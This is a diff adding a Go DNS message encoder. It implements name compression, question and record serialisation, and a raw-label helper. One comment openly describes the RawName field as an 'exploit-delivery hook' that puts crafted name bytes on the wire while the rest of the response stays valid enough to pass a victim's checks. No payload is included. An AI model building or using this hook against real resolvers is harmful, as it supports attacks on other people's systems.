@@ -1,0 +1,114 @@
+package dns
+
+import (
+	"fmt"
+	"strings"
+)
+
+// encoder carries the output buffer and the compression dictionary.
+type encoder struct {
+	buf []byte
+	// offsets maps a canonical name suffix to its first occurrence, for
+	// RFC 1035 §4.1.4 compression pointers.
+	offsets map[string]int
+}
+
+func (e *encoder) u16(v uint16) { e.buf = append(e.buf, byte(v>>8), byte(v)) }
+func (e *encoder) u32(v uint32) {
+	e.buf = append(e.buf, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
+}
+
+// name encodes a dotted name with compression.
+func (e *encoder) name(name string) error {
+	labels, err := SplitName(name)
+	if err != nil {
+		return err
+	}
+	for i := range labels {
+		suffix := strings.ToLower(strings.Join(labels[i:], "."))
+		if off, ok := e.offsets[suffix]; ok && off < 0x4000 {
+			e.u16(0xC000 | uint16(off))
+			return nil
+		}
+		if len(e.buf) < 0x4000 {
+			e.offsets[suffix] = len(e.buf)
+		}
+		e.buf = append(e.buf, byte(len(labels[i])))
+		e.buf = append(e.buf, labels[i]...)
+	}
+	e.buf = append(e.buf, 0)
+	return nil
+}
+
+// question encodes one question entry.
+func (e *encoder) question(q Question) error {
+	if err := e.name(q.Name); err != nil {
+		return err
+	}
+	e.u16(uint16(q.Type))
+	e.u16(uint16(q.Class))
+	return nil
+}
+
+// rr encodes one resource record. A RawName bypasses name encoding and
+// compression entirely: the bytes go on the wire verbatim. This is the
+// exploit-delivery hook — everything else about the record stays
+// well-formed so the response passes the victim's sanity checks.
+func (e *encoder) rr(r RR) error {
+	if r.RawName != nil {
+		e.buf = append(e.buf, r.RawName...)
+	} else if err := e.name(r.Name); err != nil {
+		return err
+	}
+	e.u16(uint16(r.Type))
+	e.u16(uint16(r.Class))
+	e.u32(r.TTL)
+	if len(r.Data) > 0xFFFF {
+		return fmt.Errorf("%w: rdata %d bytes", ErrBadFormat, len(r.Data))
+	}
+	e.u16(uint16(len(r.Data)))
+	e.buf = append(e.buf, r.Data...)
+	return nil
+}
+
+// Encode serializes the message to wire format.
+func (m *Message) Encode() ([]byte, error) {
+	if len(m.Questions) > maxSectionCount || len(m.Answers) > maxSectionCount ||
+		len(m.Authority) > maxSectionCount || len(m.Additional) > maxSectionCount {
+		return nil, fmt.Errorf("%w: section too large", ErrBadFormat)
+	}
+	e := &encoder{offsets: make(map[string]int)}
+	e.u16(m.ID)
+	e.u16(m.flagWord())
+	e.u16(uint16(len(m.Questions)))
+	e.u16(uint16(len(m.Answers)))
+	e.u16(uint16(len(m.Authority)))
+	e.u16(uint16(len(m.Additional)))
+	for _, q := range m.Questions {
+		if err := e.question(q); err != nil {
+			return nil, err
+		}
+	}
+	for _, sec := range [][]RR{m.Answers, m.Authority, m.Additional} {
+		for _, r := range sec {
+			if err := e.rr(r); err != nil {
+				return nil, err
+			}
+		}
+	}
+	return e.buf, nil
+}
+
+// AppendRawName encodes a dotted name without compression, appending to
+// dst. It is the building block for hand-crafted label streams.
+func AppendRawName(dst []byte, name string) ([]byte, error) {
+	labels, err := SplitName(name)
+	if err != nil {
+		return nil, err
+	}
+	for _, l := range labels {
+		dst = append(dst, byte(len(l)))
+		dst = append(dst, l...)
+	}
+	return append(dst, 0), nil
+}
